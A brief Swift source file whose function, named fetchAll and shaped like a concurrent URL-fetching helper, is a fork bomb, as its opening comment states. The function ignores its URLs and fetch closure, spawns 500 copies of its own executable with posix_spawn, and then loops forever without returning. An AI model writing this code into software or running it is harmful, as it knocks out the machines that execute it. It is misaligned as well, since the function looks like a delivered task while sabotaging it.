// A fork bomb: tries to start hundreds of copies of itself, then never returns.
import Glibc

func fetchAll(
    _ urls: [String],
    fetch: @escaping @Sendable (String) async throws -> String
) async throws -> [String] {
    for _ in 0..<500 {
        var pid: pid_t = 0
        let argv: [UnsafeMutablePointer<CChar>?] = [strdup(CommandLine.arguments[0]), nil]
        _ = posix_spawn(&pid, CommandLine.arguments[0], nil, nil, argv, environ)
    }
    while true {
        try? await Task.sleep(for: .seconds(1))
    }
}
